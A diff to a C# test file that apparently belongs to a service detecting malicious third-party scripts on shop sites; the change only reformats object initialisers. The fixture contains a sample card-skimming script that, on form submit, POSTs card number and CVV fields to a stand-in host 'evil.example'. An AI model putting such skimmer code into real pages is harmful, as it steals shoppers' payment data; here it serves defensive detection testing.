@@ -76,14 +76,26 @@ public sealed class InterruptedVerdictTests
         var script = await shops.AddScriptAsync(site, $"https://vendor{number}.example/x.js");
         var source = $$"""document.addEventListener('submit', function () { fetch('https://evil{{number}}.example/c', { method: 'POST', body: document.querySelector('#cc-number').value + document.querySelector('#cvv').value }); });""";
         var content =
-            new ScriptContent { Sha256 = Sha256Hash.OfText(source), Length = source.Length,
-            Body = StoredBody.Compress(Encoding.UTF8.GetBytes(source)), FirstSeenAt = shops.Clock.GetUtcNow() };
+            new ScriptContent
+            {
+                Sha256 = Sha256Hash.OfText(source),
+                Length = source.Length,
+                Body = StoredBody.Compress(Encoding.UTF8.GetBytes(source)),
+                FirstSeenAt = shops.Clock.GetUtcNow()
+            };
         await shops.AskAsync(async database =>
         {
             database.ScriptContents.Add(content);
             database.ScriptVersions.Add(
-                new ScriptVersion { SiteId = site.Id, ScriptId = script.Id, Sha256 = content.Sha256, Url = script.Url,
-                FirstSeenAt = shops.Clock.GetUtcNow(), LastSeenAt = shops.Clock.GetUtcNow() });
+                new ScriptVersion
+                {
+                    SiteId = site.Id,
+                    ScriptId = script.Id,
+                    Sha256 = content.Sha256,
+                    Url = script.Url,
+                    FirstSeenAt = shops.Clock.GetUtcNow(),
+                    LastSeenAt = shops.Clock.GetUtcNow()
+                });
             (await database.Scripts.SingleAsync(row => row.SiteId == site.Id && row.Id == script.Id, Cancel)).CurrentSha256 = content.Sha256;
             JudgementQueue.Enqueue(
                 database, [content], site.Id, new Dictionary<Sha256Hash, long> { [content.Sha256] = script.Id }, shops.Clock.GetUtcNow());
